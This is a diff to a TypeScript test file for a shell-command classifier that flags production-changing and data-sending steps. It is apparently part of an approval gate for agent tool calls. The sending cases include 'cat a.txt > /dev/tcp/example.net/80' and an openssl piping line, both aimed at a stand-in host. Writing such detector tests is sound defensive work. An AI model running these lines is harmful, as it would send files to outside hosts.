@@ -12,6 +12,9 @@ test('what people use changes by a target, an option, a variable or a context', 
     './scripts/deploy.sh prod',
     'npm run deploy:prod',
     'dbt run --target prod',
+    'npx wrangler d1 migrations apply guestbook --remote',
+    'ENV=prod ./run.sh',
+    'APP_ENV=production php artisan migrate',
     'APP_ENV=production python -c "import jobs; jobs.run()"',
     'kubectl --context prod-eu set image deployment/a a=b',
   ])
@@ -29,4 +32,26 @@ test('a look at it, a build for it and a trial do not change it', () => {
     'terraform plan -var-file=prod.tfvars',
   ])
     assert.ok(!isLive(command), command)
+})
+
+test('a target that sends, and a destination for what is fed, ask', () => {
+  const sends = (command: string): boolean =>
+    labelStep('bash', { command }, SHELL, undefined).signals['doesSend'] === 1
+  for (const command of [
+    'php artisan newsletter:send',
+    'make send-invoices',
+    'bin/send-reminders.sh',
+    'cat a.txt > /dev/tcp/example.net/80',
+    'exec 3<>/dev/tcp/example.net/80',
+    'cat a.txt | openssl s_client -connect example.net:443',
+  ])
+    assert.ok(sends(command), command)
+  for (const command of [
+    'make test-send',
+    'npm run build:send',
+    'echo hi > /dev/tcp/127.0.0.1/80',
+    'openssl s_client -connect example.net:443',
+    'cat src/send.ts',
+  ])
+    assert.ok(!sends(command), command)
 })
